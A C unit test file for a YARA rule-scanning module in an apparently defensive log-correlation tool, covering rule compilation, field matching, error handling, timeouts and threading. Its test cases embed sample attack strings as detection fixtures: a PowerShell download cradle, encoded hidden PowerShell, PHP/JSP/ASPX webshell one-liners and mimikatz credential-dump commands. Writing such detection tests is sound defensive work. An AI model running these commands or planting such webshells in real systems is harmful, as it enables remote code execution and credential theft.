/* Unit tests of correlate/lf_yara: the shipped rules compile with their
 * meta and tags; matches and non-matches on configured event fields; the
 * lf_field external; a bad rule file is refused with file:line while the
 * previous set keeps matching; the scan timeout, the scanned-length bound
 * and the per-event match bound. */
#include "lf_yara.h"

#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#define RULES LF_SOURCE_DIR "/rules/yara/"

static const char *const shipped[] = {RULES "webshell.yar", RULES "powershell.yar",
                                      RULES "mimikatz.yar"};

static int setup(void **state)
{
    return lf_yara_global_init() == LF_OK ? 0 : -1;
}

static int teardown(void **state)
{
    lf_yara_global_cleanup();
    return 0;
}

static lf_field_id_t field(const char *path)
{
    lf_field_id_t id = lf_field_lookup(path, strlen(path));
    if (id >= LF_F_COUNT)
        fail_msg("field %s is not in the event table", path);
    return id;
}

static char *scan_fields[] = {"message", "event.original"};

/* A config scanning message and event.original (both in the core table). */
static void test_config(lf_yara_config_t *cfg)
{
    lf_yara_config_defaults(cfg);
    cfg->fields = scan_fields;
    cfg->field_count = 2;
}

typedef struct hits {
    size_t n;
    char rule[16][64];
    lf_field_id_t field[16];
    size_t stop_after;
} hits_t;

static bool collect(const lf_yara_match_t *m, void *ctx)
{
    hits_t *h = ctx;
    if (h->n < 16) {
        snprintf(h->rule[h->n], sizeof h->rule[0], "%s", m->rule->identifier);
        h->field[h->n] = m->field;
    }
    h->n++;
    return h->stop_after == 0 || h->n < h->stop_after;
}

static bool has_rule(const hits_t *h, const char *id)
{
    for (size_t i = 0; i < h->n && i < 16; i++)
        if (!strcmp(h->rule[i], id))
            return true;
    return false;
}

static lf_yara_set_t *compile_text(const char *text, const lf_yara_config_t *cfg,
                                   lf_yara_metrics_t *metrics)
{
    lf_yara_source_t src = {.name = "inline", .text = text, .len = strlen(text)};
    lf_yara_set_t *set = NULL;
    char err[512];
    lf_err_t rc = lf_yara_set_compile(&src, 1, cfg, metrics, &set, err, sizeof err);
    if (rc != LF_OK)
        fail_msg("inline rules: %s", err);
    return set;
}

static void test_shipped_rules(void **state)
{
    lf_yara_set_t *set = NULL;
    char err[512];
    assert_int_equal(lf_yara_set_compile_files(shipped, 3, NULL, NULL, &set, err, sizeof err),
                     LF_OK);
    assert_int_equal(lf_yara_set_rule_count(set), 8);
    const lf_yara_rule_t *r = lf_yara_set_find(set, "mimikatz_commands");
    assert_non_null(r);
    assert_string_equal(r->ns, "mimikatz");
    assert_int_equal(r->tag_count, 3);
    assert_string_equal(r->tags[0], "credential_access");
    bool technique = false;
    for (size_t i = 0; i < r->meta_count; i++)
        technique |=
            !strcmp(r->meta[i].key, "attack_technique") && !strcmp(r->meta[i].value, "T1003.001");
    assert_true(technique);
    assert_null(lf_yara_set_find(set, "no_such_rule"));
    lf_yara_set_release(set);
}

static void test_match_on_fields(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    lf_yara_metrics_t metrics;
    lf_yara_metrics_init(&metrics);
    lf_yara_set_t *set = NULL;
    char err[512];
    assert_int_equal(lf_yara_set_compile_files(shipped, 3, &cfg, &metrics, &set, err, sizeof err),
                     LF_OK);
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    lf_event_t *ev = calloc(1, sizeof *ev);
    lf_event_reset(ev);

    static const struct {
        const char *value;
        const char *rule; /* NULL: must not match anything */
    } cases[] = {
        {"powershell.exe -nop -w hidden -enc "
         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         "powershell_encoded_command"},
        {"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile "
         "-WindowStyle Hidden -ExecutionPolicy Bypass -File x.ps1",
         "powershell_hidden_noprofile"},
        {"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"",
         "powershell_download_cradle"},
        {"POST /upload.php body=<?php @eval($_POST['cmd']);?>", "php_webshell_eval_request"},
        {"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
         "jsp_webshell_runtime_exec"},
        {"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>",
         "aspx_webshell_eval_request"},
        {"mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
         "mimikatz_commands"},
        {"powershell.exe -File C:\\scripts\\backup.ps1", NULL},
        {"GET /index.php?page=about HTTP/1.1", NULL},
        {"Get-ChildItem -Recurse | Measure-Object", NULL},
        {"user logged in: encoded=-enc is not a command here", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        lf_event_reset(ev);
        lf_event_set_str(ev, field("message"), lf_str_c(cases[i].value));
        hits_t h = {0};
        lf_yara_scan_result_t res;
        assert_int_equal(lf_yara_scan_event(sc, set, ev, collect, &h, &res), LF_OK);
        assert_int_equal(res.values, 1);
        if (cases[i].rule && !has_rule(&h, cases[i].rule))
            fail_msg("'%s' should match %s", cases[i].value, cases[i].rule);
        if (!cases[i].rule && h.n)
            fail_msg("'%s' should match nothing, matched %s", cases[i].value, h.rule[0]);
        if (h.n)
            assert_int_equal(h.field[0], field("message"));
    }
    /* fields not configured are not scanned */
    lf_event_reset(ev);
    lf_event_set_str(ev, field("host.name"), lf_str_c("sekurlsa::logonpasswords"));
    hits_t h = {0};
    assert_int_equal(lf_yara_scan_event(sc, set, ev, collect, &h, NULL), LF_OK);
    assert_int_equal(h.n, 0);
    assert_true(lf_metric_get(&metrics.m[LF_YARA_M_SCANS]) >= 11);
    assert_true(lf_metric_get(&metrics.m[LF_YARA_M_MATCHES]) >= 7);
    assert_int_equal(lf_metric_get(&metrics.m[LF_YARA_M_RULES]), 8);

    free(ev);
    lf_yara_scanner_free(sc);
    lf_yara_set_release(set);
}

static void test_field_external(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    lf_yara_set_t *set = compile_text("rule only_message { strings: $a = \"needle\" condition: "
                                      "$a and lf_field == \"message\" }\n"
                                      "rule anywhere { strings: $a = \"needle\" condition: $a }",
                                      &cfg, NULL);
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    lf_event_t *ev = calloc(1, sizeof *ev);
    lf_event_reset(ev);
    lf_event_set_str(ev, field("message"), lf_str_c("a needle here"));
    lf_event_set_str(ev, field("event.original"), lf_str_c("another needle"));
    hits_t h = {0};
    lf_yara_scan_result_t res;
    assert_int_equal(lf_yara_scan_event(sc, set, ev, collect, &h, &res), LF_OK);
    assert_int_equal(res.values, 2);
    assert_int_equal(h.n, 3);
    size_t only = 0;
    for (size_t i = 0; i < h.n; i++)
        if (!strcmp(h.rule[i], "only_message")) {
            only++;
            assert_int_equal(h.field[i], field("message"));
        }
    assert_int_equal(only, 1);
    /* the callback can stop the scan */
    h = (hits_t){.stop_after = 1};
    assert_int_equal(lf_yara_scan_event(sc, set, ev, collect, &h, &res), LF_OK);
    assert_int_equal(h.n, 1);
    free(ev);
    lf_yara_scanner_free(sc);
    lf_yara_set_release(set);
}

static void test_bad_rules_keep_previous_set(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    lf_yara_metrics_t metrics;
    lf_yara_metrics_init(&metrics);
    lf_yara_holder_t holder;
    lf_yara_holder_init(&holder);
    lf_yara_set_t *good = NULL;
    char err[512];
    assert_int_equal(lf_yara_set_compile_files(shipped, 3, &cfg, &metrics, &good, err, sizeof err),
                     LF_OK);
    lf_yara_holder_swap(&holder, good);

    char path[] = "/tmp/lf_yara_bad_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    const char *bad = "rule fine { condition: true }\n"
                      "rule broken {\n"
                      "    strings: $a = \"x\"\n"
                      "    condition: $a and undefined_identifier\n"
                      "}\n";
    assert_int_equal(write(fd, bad, strlen(bad)), (ssize_t)strlen(bad));
    close(fd);
    const char *paths[] = {RULES "webshell.yar", path};
    lf_yara_set_t *next = NULL;
    assert_int_equal(lf_yara_set_compile_files(paths, 2, &cfg, &metrics, &next, err, sizeof err),
                     LF_EPARSE);
    assert_null(next);
    char want[128];
    snprintf(want, sizeof want, "%s:4:", path);
    if (!strstr(err, want) || !strstr(err, "undefined_identifier"))
        fail_msg("error '%s' lacks '%s' and the reason", err, want);
    assert_int_equal(lf_metric_get(&metrics.m[LF_YARA_M_COMPILE_FAILURES]), 1);
    unlink(path);

    /* a syntax error in a buffer names the buffer and line */
    lf_yara_source_t src = {
        .name = "api:upload-17", .text = "rule x {\n condition: (\n}\n", .len = 25};
    assert_int_equal(lf_yara_set_compile(&src, 1, &cfg, NULL, &next, err, sizeof err), LF_EPARSE);
    assert_non_null(strstr(err, "api:upload-17:"));
    /* a missing file */
    const char *missing[] = {"/nonexistent/rules.yar"};
    assert_int_equal(lf_yara_set_compile_files(missing, 1, &cfg, NULL, &next, err, sizeof err),
                     LF_EIO);
    assert_non_null(strstr(err, "/nonexistent/rules.yar"));

    /* the holder still serves the previous set, which still matches */
    lf_yara_set_t *cur = lf_yara_holder_acquire(&holder);
    assert_ptr_equal(cur, good);
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    hits_t h = {0};
    const char *cmd = "sekurlsa::logonpasswords";
    assert_int_equal(
        lf_yara_scan_buffer(sc, cur, cmd, strlen(cmd), field("message"), collect, &h, NULL), LF_OK);
    assert_true(has_rule(&h, "mimikatz_commands"));
    lf_yara_set_release(cur);

    /* a good update swaps in; the scanner rebinds to the new set */
    lf_yara_holder_swap(&holder, compile_text("rule replaced { strings: $a = \"logonpasswords\" "
                                              "condition: $a }",
                                              &cfg, NULL));
    cur = lf_yara_holder_acquire(&holder);
    h = (hits_t){0};
    assert_int_equal(lf_yara_scan_buffer(sc, cur, cmd, strlen(cmd), LF_F_COUNT, collect, &h, NULL),
                     LF_OK);
    assert_int_equal(h.n, 1);
    assert_string_equal(h.rule[0], "replaced");
    lf_yara_set_release(cur);
    lf_yara_scanner_free(sc);
    lf_yara_holder_destroy(&holder);
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void test_scan_timeout(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    cfg.timeout_ms = 200; /* rounded up to 1 s */
    lf_yara_metrics_t metrics;
    lf_yara_metrics_init(&metrics);
    lf_yara_set_t *set = compile_text(
        "rule slow { condition: for all i in (0..2000000000) : ( uint8(i % filesize) != 0x100 ) }",
        &cfg, &metrics);
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    hits_t h = {0};
    lf_yara_scan_result_t res;
    double t0 = now_s();
    assert_int_equal(lf_yara_scan_buffer(sc, set, "abcdef", 6, LF_F_COUNT, collect, &h, &res),
                     LF_OK);
    double took = now_s() - t0;
    assert_int_equal(res.timeouts, 1);
    assert_int_equal(h.n, 0);
    assert_int_equal(lf_metric_get(&metrics.m[LF_YARA_M_TIMEOUTS]), 1);
    if (took > 4.0)
        fail_msg("scan took %.2fs with a 1s timeout", took);
    lf_yara_scanner_free(sc);
    lf_yara_set_release(set);
}

static void test_scan_bounds(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    cfg.max_scan_bytes = 64;
    cfg.max_matches = 1;
    lf_yara_metrics_t metrics;
    lf_yara_metrics_init(&metrics);
    lf_yara_set_t *set = compile_text("rule a { strings: $a = \"needle\" condition: $a }\n"
                                      "rule b { strings: $a = \"needle\" condition: $a }",
                                      &cfg, &metrics);
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    char value[200];
    memset(value, 'x', sizeof value);
    memcpy(value + 150, "needle", 6); /* past max_scan_bytes */
    hits_t h = {0};
    lf_yara_scan_result_t res;
    assert_int_equal(
        lf_yara_scan_buffer(sc, set, value, sizeof value, LF_F_COUNT, collect, &h, &res), LF_OK);
    assert_int_equal(h.n, 0);
    assert_int_equal(res.truncated, 1);
    assert_int_equal(lf_metric_get(&metrics.m[LF_YARA_M_TRUNCATED]), 1);
    memcpy(value + 10, "needle", 6);
    assert_int_equal(
        lf_yara_scan_buffer(sc, set, value, sizeof value, LF_F_COUNT, collect, &h, &res), LF_OK);
    assert_int_equal(h.n, 1); /* two rules match; max_matches is 1 */
    /* no set: nothing to do */
    assert_int_equal(lf_yara_scan_buffer(sc, NULL, value, 10, LF_F_COUNT, collect, &h, &res),
                     LF_OK);
    assert_int_equal(res.values, 0);
    lf_yara_scanner_free(sc);
    lf_yara_set_release(set);
}

/* One scanner per thread over a shared, swapped set. */
typedef struct yreader {
    lf_yara_holder_t *holder;
    _Atomic bool *stop;
    size_t rounds, hits;
} yreader_t;

static void *yreader_main(void *arg)
{
    yreader_t *r = arg;
    lf_yara_scanner_t *sc = lf_yara_scanner_new();
    const char *cmd = "mimikatz.exe sekurlsa::logonpasswords";
    while (!atomic_load(r->stop) || r->rounds < 50) {
        lf_yara_set_t *set = lf_yara_holder_acquire(r->holder);
        hits_t h = {0};
        lf_yara_scan_buffer(sc, set, cmd, strlen(cmd), LF_F_COUNT, collect, &h, NULL);
        r->hits += h.n > 0;
        lf_yara_set_release(set);
        r->rounds++;
    }
    lf_yara_scanner_free(sc);
    return NULL;
}

static void test_threads_share_set(void **state)
{
    lf_yara_config_t cfg;
    test_config(&cfg);
    lf_yara_holder_t holder;
    lf_yara_holder_init(&holder);
    const char *rules[] = {"rule a { strings: $a = \"logonpasswords\" condition: $a }",
                           "rule b { strings: $a = \"sekurlsa\" condition: $a }"};
    lf_yara_holder_swap(&holder, compile_text(rules[0], &cfg, NULL));
    _Atomic bool stop = false;
    yreader_t readers[4];
    pthread_t th[4];
    for (int i = 0; i < 4; i++) {
        readers[i] = (yreader_t){.holder = &holder, .stop = &stop};
        assert_int_equal(pthread_create(&th[i], NULL, yreader_main, &readers[i]), 0);
    }
    for (int i = 0; i < 20; i++)
        lf_yara_holder_swap(&holder, compile_text(rules[i % 2], &cfg, NULL));
    atomic_store(&stop, true);
    for (int i = 0; i < 4; i++) {
        pthread_join(th[i], NULL);
        assert_int_equal(readers[i].hits, readers[i].rounds);
    }
    lf_yara_holder_destroy(&holder);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shipped_rules),
        cmocka_unit_test(test_match_on_fields),
        cmocka_unit_test(test_field_external),
        cmocka_unit_test(test_bad_rules_keep_previous_set),
        cmocka_unit_test(test_scan_timeout),
        cmocka_unit_test(test_scan_bounds),
        cmocka_unit_test(test_threads_share_set),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
